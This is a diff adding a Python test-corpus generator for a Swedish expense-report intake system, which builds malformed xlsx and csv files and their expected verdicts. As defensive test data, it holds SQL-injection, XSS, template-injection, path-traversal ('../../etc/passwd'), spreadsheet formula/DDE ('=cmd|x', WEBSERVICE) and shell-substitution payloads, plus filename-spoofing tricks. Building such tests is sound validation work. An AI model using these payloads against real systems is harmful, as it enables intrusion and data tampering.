+        xml('t="n"><v>30000.25</v>', 't="inlineStr"><is><t>=1+1</t></is>'),
+        "held",
+        "belopp-olasligt",
+    ),
+    "belopp html": (line(2, Belopp="<b>30000</b>"), "held", "belopp-olasligt"),
+    "belopp sql": (line(2, Belopp="0); DROP TABLE line; --"), "held", "belopp-olasligt"),
+    "belopp långt ord": (line(2, Belopp="9" * 30_000), "held", "belopp-olasligt"),
+    "belopp med nollbredd": (line(2, Belopp="30\u200b000,25"), "warned", "belopp-text"),
+    "belopp för stort": (line(2, Belopp=1e10), "held", "belopp-olasligt"),
+    "datum 2958466": (xml("<v>45199</v>", "<v>2958466</v>"), "held", "cell-felvarde"),
+    "datum före 1900": (xml("<v>45199</v>", "<v>-5</v>"), "warned", "datum-utanfor"),
+    "datum html": (line(2, Datum="<i>2023-09-30</i>"), "held", "datum-olasligt"),
+    "område långt ord": (line(2, Område="u" * 32_000), "held", "omrade-okant"),
+    "område jinja": (line(2, Område="{{ 7*7 }}"), "held", "omrade-okant"),
+    "nämnd html": (fields(namnd="<script>alert(1)</script>"), "held", "namnd-okand"),
+    "nämnd jinja": (fields(namnd="{{ namnd }}{% raise %}"), "held", "namnd-okand"),
+    "bidrag sql": (fields(bidrag="' OR 1=1 --"), "held", "bidrag-okant"),
+    "bidrag uppåt": (fields(bidrag="../../etc/passwd"), "held", "bidrag-okant"),
+    "version enorm": (fields(version=10**12), "held", "version-olaslig"),
+    "formel utan värde": (line(2, Belopp='=WEBSERVICE("http://x.invalid")'), "held", "cell-formel-utan-varde"),
+    "formel med värde utanför": (
+        xml("<v>30000.25</v>", "<f>'[1]Blad1'!A1</f><v>30000.25</v>"),
+        "accepted",
+        "",
+    ),
+    "personnummer i bladnamn": (edited(lambda b: b.create_sheet(f"Ärende {NUMBER}")), "held", "personnummer"),
+    "personnummer med nollbredd": (line(2, Kommentar="1912\u200b1212\u200d-1212"), "held", "personnummer"),
+}
+
+SHEETS: Mapping[str, str] = {
+    "bladnamn html": "<b>x<script>",
+    "bladnamn jinja": "{{7}}{%x%}",
+    "bladnamn formel": "=1+1",
+    "bladnamn rtl": "Kost\u202exslx.exe",
+    "bladnamn c1": "röd \x9b31m",
+    "bladnamn nollbredd": "Kostnader\u200b",
+}
+
+
+def _far_comment(book: Workbook) -> None:
+    book["Kostnader"]["I6"].comment = Comment("<script>alert(1)</script> {{7*7}} =1+1", "=cmd|x")
+
+
+def _blank_form(book: Workbook) -> None:
+    for name in ("bidrag", "namnd"):
+        sheet, ref = place(book, name)
+        book[sheet][ref].value = None
+
+
+# -- CSV -------------------------------------------------------------------------------------------------------------
+
+
+def _replaced(old: str, new: str, count: int = -1, **how: str) -> Make:
+    return as_csv(lambda text: text.replace(old, new, count), **how)
+
+
+CSV: Mapping[str, tuple[Make, Outcome, str]] = {
+    "utf-8": (as_csv(), "accepted", ""),
+    "utf-8 med märke": (as_csv(encoding="utf-8-sig"), "accepted", ""),
+    "två märken": (as_csv(lambda t: "\ufeff" + t, encoding="utf-8-sig"), "accepted", ""),
+    "utf-16": (as_csv(encoding="utf-16"), "accepted", ""),
+    "utf-16 stor ände": (as_csv(lambda t: "\ufeff" + t, encoding="utf-16-be"), "accepted", ""),
+    "komma": (as_csv(delimiter=","), "accepted", ""),
+    "sep": (as_csv(lambda t: "sep=;\r\n" + t), "accepted", ""),
+    "radslut av alla slag": (as_csv(lambda t: t.replace("\r\n", "\n", 2).replace("\r\n", "\r", 1)), "accepted", ""),
+    "avslutande skiljetecken": (as_csv(lambda t: t.replace("\r\n", ";;;\r\n")), "accepted", ""),
+    "tomma rader": (as_csv(lambda t: t.replace("\r\n", "\r\n\r\n") + ";;;;\r\n"), "accepted", ""),
+    "windows-1252": (as_csv(lambda t: t + "\r\n", encoding="cp1252"), "warned", "csv-windows-1252"),
+    "utf-16 utan märke": (as_csv(lambda t: t + "\n", encoding="utf-16-le"), "refused", "csv-inte-text"),
+    "utf-16 klippt": (lambda: as_csv(encoding="utf-16")()[:-1], "refused", "csv-teckenkod"),
+    "utf-32": (as_csv(lambda t: t + "\n", encoding="utf-32"), "refused", "csv-inte-text"),
+    "dos": (as_csv(lambda t: t + "\n", encoding="cp437"), "refused", "csv-teckenkod"),
+    "dos 850": (as_csv(lambda t: t + "\n", encoding="cp850"), "refused", "csv-teckenkod"),
+    "gammal mac": (as_csv(lambda t: t + "\n", encoding="mac-roman"), "refused", "csv-teckenkod"),
+    "dubbelkodad": (as_csv(lambda t: t.encode().decode("cp1252", "replace")), "refused", "csv-teckenkod"),
+    "dubbelkodad mac": (as_csv(lambda t: t.encode().decode("mac-roman")), "refused", "csv-teckenkod"),
+    "trasig utf-8": (lambda: as_csv()().replace("ö".encode(), b"\xf6\x81", 1), "refused", "csv-teckenkod"),
+    "ersättningstecken": (_replaced("ö", "\ufffd"), "refused", "csv-teckenkod"),
+    "nul": (_replaced("V2", "V\0"), "refused", "csv-inte-text"),
+    "esc": (_replaced("V2", "\x1b[31mV2"), "refused", "csv-inte-text"),
+    "backsteg": (_replaced("12000", "1\x082000"), "refused", "csv-inte-text"),
+    "kort rad": (_replaced(";12000;", ";12000"), "refused", "csv-rad"),
+    "lång rad": (_replaced(";12000;", ";12000;x;y"), "refused", "csv-rad"),
+    "öppet citattecken": (_replaced(";V2;", ';"V2;'), "refused", "csv-citattecken"),
+    "öppet citattecken i slutet": (_replaced("Rättelse av V2", '"Rättelse av V2'), "refused", "csv-citattecken"),
+    "text efter citattecken": (_replaced(";V2;", ';"V"2;'), "refused", "csv-citattecken"),
+    "jättelikt fält": (_replaced("V2", '"' + "x" * 200_000 + '"'), "refused", "csv-citattecken"),
+    "för lång text": (_replaced("Rättelse av V2", "x" * 40_000), "refused", "text-for-lang"),
+    "decimalkomma mellan komman": (_replaced("40000.50", "40000,50", delimiter=","), "refused", "csv-decimalkomma"),
+    "decimalkomma utan slut": (_replaced("40000.50,\r", "40000,50\r", delimiter=","), "refused", "csv-decimalkomma"),
+    "tabbar": (as_csv(lambda t: t.replace(";", "\t")), "refused", "csv-rubriker"),
+    "lodstreck": (as_csv(lambda t: "sep=|\n" + t.replace(";", "|")), "refused", "csv-rubriker"),
+    "utan rubriker": (as_csv(lambda t: t.split("\r\n", 1)[1]), "refused", "csv-rubriker"),
+    "rubrik två gånger": (_replaced("konto;", "belopp;", 1), "refused", "csv-rubriker"),
+    "bara rubriker": (as_csv(lambda t: t.split("\r\n")[0]), "refused", "csv-utan-rader"),
+    "rubriker utan slut": (
+        as_csv(lambda t: ";".join(f"k{n}" for n in range(1000)) + ";" + t),
+        "refused",
+        "fil-for-manga-rader",
+    ),
+    "rader utan slut": (as_csv(lambda t: t + "\n" * 50_000), "refused", "fil-for-manga-rader"),
+    "blandade nämnder": (
+        _replaced(";farsta;2023-12-31;1;Hembesök", ";bromma;2023-12-31;1;Hembesök", 1),
+        "held",
+        "csv-blandat",
+    ),
+    "formel som belopp": (_replaced(";12000;", ";=6000*2;"), "held", "belopp-olasligt"),
+    "json.txt": (raw(b'{"bidrag": "x", "belopp": 1}'), "refused", "csv-rubriker"),
+    **{f"text {name}": (_replaced("Juli till september", _quoted(TEXTS[name])), "accepted", "") for name in _IN_CSV},
+}
+
+# -- names, and what is no file --------------------------------------------------------------------------------------
+
+NAMES: tuple[str, ...] = (
+    *("rad\nbryt.xlsx", "färg\x1b[31m.xlsx", "klocka\x07.xlsx", "höger\u202exslx.exe", "noll\u200bbredd.xlsx"),
+    *(
+        "<img src=x onerror=alert(1)>.xlsx",
+        "{{ 7*7 }}{% x %}.xlsx",
+        "=1+1.xlsx",
+        "@SUM(A1).xlsx",
+        "'; DROP TABLE x; --.xlsx",
+    ),
+    *(
+        "-rf.xlsx",
+        "$(id) `id` | id.xlsx",
+        "%s%n{0}.xlsx",
+        "fo\u0308rsta.xlsx",
+        "👩‍👧.xlsx",
+        "FARSTA.XLSX",
+        "utan ändelse",
+    ),
+    *(
+        "rapport.pdf",
+        "\udce4\udcff.xlsx",
+        "punkt..xlsx",
+        "CON.xlsx",
+        f"{'å' * 120}.xlsx",
+        " blank först.xlsx",
+        "mapp/under/djupt.xlsx",
+    ),
+)
+"""Good returns under names that are code somewhere, or that nobody can see."""
+
+
+def _link(to: str) -> Callable[[Path], object]:
+    return lambda path: path.symlink_to(to)
+
+
+def _socket(path: Path) -> None:
+    """A socket under a name; its address is told by the folder, since addresses are short."""
+    here = os.open(path.parent, os.O_RDONLY)
+    try:
+        with socket.socket(socket.AF_UNIX) as made:
+            made.bind(f"/proc/self/fd/{here}/{path.name}")
+    finally:
+        os.close(here)
+
+
+def _copy(path: Path) -> None:
+    path.write_bytes(good())
+
+
+SKIPPED: Mapping[str, tuple[Callable[[Path], object], str]] = {
+    "länk till en redovisning.xlsx": (_link("utf-8.csv"), "fil-ar-ingen-fil"),
+    "länk till ingenting.xlsx": (_link("finns inte"), "fil-ar-ingen-fil"),
+    "länk till sig själv.xlsx": (_link("länk till sig själv.xlsx"), "fil-ar-ingen-fil"),
+    "länk till en mapp": (_link("/etc"), "fil-ar-ingen-fil"),
+    "länk utan slut.xlsx": (_link("/dev/zero"), "fil-ar-ingen-fil"),
+    "rör.xlsx": (os.mkfifo, "fil-ar-ingen-fil"),
+    "uttag.xlsx": (_socket, "fil-ar-ingen-fil"),
+    "~$farsta.xlsx": (_copy, ""),
+    ".~lock.farsta.xlsx#": (_copy, ""),
+    "._farsta.xlsx": (_copy, ""),
+    ".DS_Store": (_copy, ""),
+    "Thumbs.db": (_copy, ""),
+    "desktop.ini": (_copy, ""),
+}
+
+
+def corpus() -> Iterator[Odd]:
+    """Every file, in no particular order; the names are apart."""
+    for name, (content, rule) in OTHER_KINDS.items():
+        yield Odd(name, raw(content), "refused", (rule,))
+    for kind, suffix, files in (
+        ("zip", ".xlsx", ZIPS),
+        ("xml", ".xlsx", XML),
+        ("cell", ".xlsx", CELLS),
+        ("csv", ".csv", CSV),
+    ):
+        for name, (make, outcome, rule) in files.items():
+            yield Odd(f"{kind} {name}{suffix}", make, outcome, (rule,) if rule else ())
+    for name, (make, rule) in ACTIVE.items():
+        yield Odd(f"aktiv {name}.xlsx", make, "warned", (rule,))
+    for name, text in TEXTS.items():
+        yield Odd(f"text {name}.xlsx", _commented(text), "accepted")
+    for name, title in SHEETS.items():
+        yield Odd(f"{name}.xlsx", _titled(title), "accepted")
+    yield Odd("anteckning.xlsx", edited(_far_comment), "accepted")
+    yield Odd("utan avsändare.xlsx", edited(_blank_form), "held", ("obligatorisk-cell-tom",))
+    for name in NAMES:
+        yield Odd(name, good, "accepted")
+    for number in (NUMBER, NUMBER.replace("-", "+"), "191212121212"):
+        yield Odd(f"farsta {number}.xlsx", good, "held", ("personnummer",))
+    for name, (placed, rule) in SKIPPED.items():
+        yield Odd(name, placed, "skipped", (rule,) if rule else ())
+
+
+def write(folder: Path) -> list[Odd]:
+    """Write the whole corpus into a folder."""
+    files = list(corpus())
+    for odd in files:
+        path = folder / odd.name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if odd.outcome == "skipped":
+            odd.make(path)  # type: ignore[call-arg]
+        else:
+            path.write_bytes(odd.make())  # type: ignore[call-arg,arg-type]
+    return files
+
+
+# -- what reading them costs -----------------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Cost:
+    """What both readers took for one file: processor seconds, and the most memory that the child has had, in bytes."""
+
+    returned: Return
+    total: object
+    cpu_seconds: float
+    peak_bytes: int
+
+
+def measured(path: Path, name: str) -> Cost:
+    """Read a file by both readers, in a child process."""
+    begun = time.process_time()
+    returned = intake.read(path, name)
+    total = None
+    if returned.kind in {"xlsx", "csv"}:
+        try:
+            total = recount.total(path, name, returned.sha256)
+        except recount.UnreadableError:
+            total = None
+    return Cost(returned, total, time.process_time() - begun, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024)
+
+
+if __name__ == "__main__":
+    asked = argparse.ArgumentParser(description=__doc__)
+    asked.add_argument("--to", type=Path, required=True, metavar="FOLDER")
+    to = asked.parse_args().to
+    to.mkdir(parents=True, exist_ok=True)
+    print(f"{len(write(to))} files in {to}")
